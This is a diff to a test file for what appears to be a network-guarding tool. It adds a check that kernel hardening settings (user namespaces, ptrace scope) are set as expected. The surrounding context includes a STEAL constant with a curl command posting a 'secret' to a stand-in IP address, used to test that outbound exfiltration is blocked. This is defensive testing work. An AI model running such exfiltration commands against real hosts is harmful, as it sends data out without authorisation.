@@ -7,6 +7,9 @@ import { logOf, machineSuite } from "../support/machine_suite.ts";
 
 const test = machineSuite();
 const POLICY = "site.test\nhttp://site.test/*\n";
+/** No namespaces for users, nor the memory of others' processes. */
+const HARDENED =
+  "cd /proc/sys/kernel; cat unprivileged_userns_clone apparmor_restrict_unprivileged_userns yama/ptrace_scope";
 /** In parallel: most of it ends by a time limit. */
 const STEAL = `
 curl -sS -m 2 -d secret http://203.0.113.66/ &
@@ -20,6 +23,7 @@ test("start guards every process, and stop puts everything back", async (s) => {
   const before = await s.state();
   const started = await s.guard(POLICY);
   assert.match(started.stdout, /guards this machine \(enforce\); orders from: root/);
+  assert.equal((await s.machine.sh(HARDENED)).stdout, "0\n1\n1\n");
   await s.begin();
   const get = await s.machine.run("curl", "-sS", "-m", "5", "https://site.test/");
   assert.equal(get.stdout, "GET / 0\n", get.stderr);
